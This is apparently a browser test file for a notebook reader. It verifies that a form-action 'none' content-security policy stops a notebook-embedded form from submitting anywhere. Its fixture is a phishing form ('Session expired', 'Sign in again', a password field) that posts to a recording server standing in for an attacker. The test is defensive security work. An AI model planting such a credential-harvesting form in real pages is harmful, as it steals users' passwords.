import { describe, expect, it } from 'vitest';
import { readerUrl } from '../support/notebook.ts';
import { recordingServer } from './network-support.ts';
import { useApp, useServer } from '../support/use-app.ts';

const collector = useServer(recordingServer);

/** Prose that asks the reader to "sign in again" and posts what they type to another server. */
const phishingForm = (target: string) =>
  `<form id="phish" action="${target}/phish" method="post"><input name="password" value="hunter2"><button>Sign in again</button></form>`;

const app = useApp({
  notebooks: () => ({
    'phish.algo.md': `---\nalgobook: 1\nid: phish\ntitle: Session expired\n---\n\n${phishingForm(collector.origin)}\n`,
  }),
});
const { fixtures: notebooks } = app;

describe("the page's form-action 'none'", () => {
  it('stops a form from a notebook from sending the reader anywhere', async () => {
    const page = await app.newPage();
    try {
      await page.goto(readerUrl(app.server.url, `${notebooks.url}phish.algo.md`));
      await page.getByRole('heading', { name: 'Session expired' }).waitFor();
      const before = page.url();
      // Whether or not the sanitiser keeps the form, the policy is the last line: if the form
      // was removed, put it on the page as a sanitiser gap would; then submit it.
      const violation = page.evaluate(
        () =>
          new Promise<string>((resolve) =>
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve(event.effectiveDirective),
            ),
          ),
      );
      const button = page.getByRole('button', { name: 'Sign in again' });
      if (!(await button.count()))
        await page.evaluate((html) => {
          const holder = document.createElement('div');
          holder.innerHTML = html;
          document.querySelector('main')?.append(holder);
        }, phishingForm(collector.origin));
      // A click that does not wait for the navigation the policy refuses.
      await button.dispatchEvent('click');
      expect(await violation).toBe('form-action');
      expect(page.url()).toBe(before);
      expect(
        await page.getByRole('heading', { name: 'Session expired', level: 1 }).isVisible(),
      ).toBe(true);
      expect(collector.received).toEqual([]);
    } finally {
      await page.context().close();
    }
  });
});
